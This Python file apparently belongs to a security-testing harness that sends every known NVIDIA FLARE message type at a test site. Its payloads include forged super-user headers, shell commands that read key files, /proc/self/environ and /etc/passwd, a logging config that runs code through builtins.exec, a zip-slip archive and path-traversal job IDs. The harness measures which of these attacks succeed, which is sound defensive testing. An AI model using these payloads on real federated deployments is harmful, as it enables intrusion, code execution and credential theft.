"""Every message that the engine knows, sent at a site by a server or by another site.

The types are read off the engine's own lists, so that a later engine's new ones are sent as well.
Whoever sends them knows where the site and its data lie (by links whose names say nothing).
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

from nvflare.apis.fl_constant import AdminCommandNames, ReservedTopic, ServerCommandNames
from nvflare.fuel.f3.cellnet import net_agent
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic
from nvflare.private import defs
from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic

from experiments._hostile.engine import Federation, Puppet
from experiments._hostile.got import Got

_SUPER = {
    RequestHeader.USER_NAME: "super", RequestHeader.USER_ORG: "tacit",
    RequestHeader.USER_ROLE: "super", RequestHeader.SUBMITTER_NAME: "super",
    RequestHeader.SUBMITTER_ORG: "tacit", RequestHeader.SUBMITTER_ROLE: "super",
    RequestHeader.REQUIRE_AUTHZ: "true", RequestHeader.ADMIN_COMMAND: "cat",
}  # fmt: skip
# Those after which an engine is not there any more come last.
_LAST = (
    TrainingTopic.RESTART, TrainingTopic.SHUTDOWN, net_agent._TOPIC_CHANGE_ROOT,
    net_agent._TOPIC_STOP_CELL, net_agent._TOPIC_STOP, CellChannelTopic.Bye, CellChannelTopic.Quit,
    ReservedTopic.STOP_CELLNET,
)  # fmt: skip


class Order(NamedTuple):
    """One message."""

    channel: str
    topic: str
    body: Any = ""
    form: str = "admin"
    headers: dict[str, Any] = {}  # noqa: RUF012


def topics(owner: type) -> list[str]:
    """Return the topics that a class of the engine's lists."""
    return [v for k, v in vars(owner).items() if k.isupper() and isinstance(v, str)]


def orders(place: Path) -> Iterator[Order]:
    """Yield every message, with what could get something from the site that lies at a place."""
    main = CellChannel.CLIENT_MAIN
    files = ("site.toml", "identity.key", "notes.csv", "state/runs.jsonl")
    wild = [f"{place}.csv", *(f"{place}/{name}" for name in files)]
    shell = [f"cat {path}" for path in wild] + [f"ls {place}/", f"ls -l {place}/state", "pwd"]
    shell += [f"head {wild[0]}", f"tail {wild[0]}", f"grep 7319 {wild[0]}", "ls /proc"]
    shell += ["cat /proc/self/environ", "cat /proc/self/mountinfo", "cat /etc/passwd"]
    for command in shell:
        yield Order(main, SysCommandTopic.SHELL, command)
        yield Order(main, SysCommandTopic.SHELL, command, headers=_SUPER)
    runs = f"open({str(place / 'ran')!r}, 'a').write('ran\\n')"
    handlers = {
        "x": {"class": "logging.FileHandler", "filename": str(place / "ran")},
        "y": {"()": "builtins.exec", "_": runs},
    }
    logs = {"version": 1, "handlers": handlers, "root": {"handlers": ["x", "y"]}}
    for topic in (SysCommandTopic.CONFIGURE_SITE_LOG, TrainingTopic.CONFIGURE_JOB_LOG):
        for body in (json.dumps(logs), wild[0], "reload", "DEBUG"):
            yield Order(main, topic, body, headers={RequestHeader.JOB_ID: "../state"})
    meta = {"name": "x", "submitter_role": "super", "submitter_name": "s", "submitter_org": "t"}
    for job in ("job", "../planted"):
        headers = {RequestHeader.JOB_ID: job, RequestHeader.JOB_META: meta | {"job_id": job}}
        headers |= {RequestHeader.APP_NAME: "app"}
        yield Order(main, TrainingTopic.DEPLOY, _app(runs), headers=headers)
        yield Order(main, TrainingTopic.START_JOB, {}, headers=headers)
    yield Order(main, TrainingTopic.DELETE_RUN, headers={RequestHeader.JOB_ID: "../sacrifice"})
    for owner in (
        defs.InfoCollectorTopic, defs.ComponentCallerTopic, TrainingTopic, SysCommandTopic,
        defs.ControlCommandTopic,
    ):  # fmt: skip
        for topic in topics(owner):
            if topic not in _LAST:
                yield Order(main, topic, wild[0], headers={RequestHeader.JOB_ID: "job"})
    nets = [v for k, v in vars(net_agent).items() if k.startswith("_TOPIC_")]
    for topic in nets:
        if topic not in _LAST:
            yield Order(net_agent._CHANNEL, topic, {}, "raw")


def more_orders() -> Iterator[Order]:
    """Yield what is for a job's process or for a server: a client's main one may not know it."""
    for channel, owner in (
        (CellChannel.CLIENT_COMMAND, AdminCommandNames),
        (CellChannel.CLIENT_SUB_WORKER_COMMAND, AdminCommandNames),
        (CellChannel.SERVER_COMMAND, ServerCommandNames),
        (CellChannel.AUX_COMMUNICATION, ReservedTopic),
        (CellChannel.SERVER_MAIN, CellChannelTopic),
        (CellChannel.CELLNET, CellChannelTopic),
    ):
        found = topics(owner) + [v for k, v in vars(owner).items() if k in ("Register",)]
        for topic in found:
            if topic not in _LAST:
                yield Order(channel, topic, "x", "shareable")
    for topic in _LAST:
        yield Order(CellChannel.CLIENT_MAIN, topic, headers={RequestHeader.JOB_ID: "job"})
        yield Order(net_agent._CHANNEL, topic, {}, "raw")
        yield Order(CellChannel.CELLNET, topic, {}, "raw")


def _app(code: str) -> bytes:
    """Return a job's app with code of its own, some of it to be put elsewhere."""
    packed = io.BytesIO()
    executor = {"tasks": ["*"], "executor": {"path": "foreign.Foreign", "args": {}}}
    config = {"format_version": 2, "executors": [executor], "components": []}
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("config/config_fed_client.json", json.dumps(config))
        archive.writestr("custom/foreign.py", code)
        archive.writestr("../../../planted/foreign.py", code)
    return packed.getvalue()


def play(federation: Federation, who: Puppet, target: str, *, long: bool) -> Got:
    """Send all of them at one site."""
    home, got, replies = federation.homes[target], Got(), []
    sacrifice = home.folder / "sacrifice"
    sacrifice.mkdir(exist_ok=True)
    before = home.lines_run()
    place = federation.aliases[target]
    for order in (*orders(place), *(more_orders() if long else ())):
        channel, topic, body, form, headers = order
        replies.append(
            who.send(target, channel, topic, body, form=form, headers=headers, timeout=1.0)
        )
        got.attempts += 1
    got.files, got.facts = home.bytes_of_files(replies), home.facts(replies)
    got.code = home.lines_run() - before
    got.other = (not sacrifice.exists()) + (home.folder / "planted").exists()
    return got
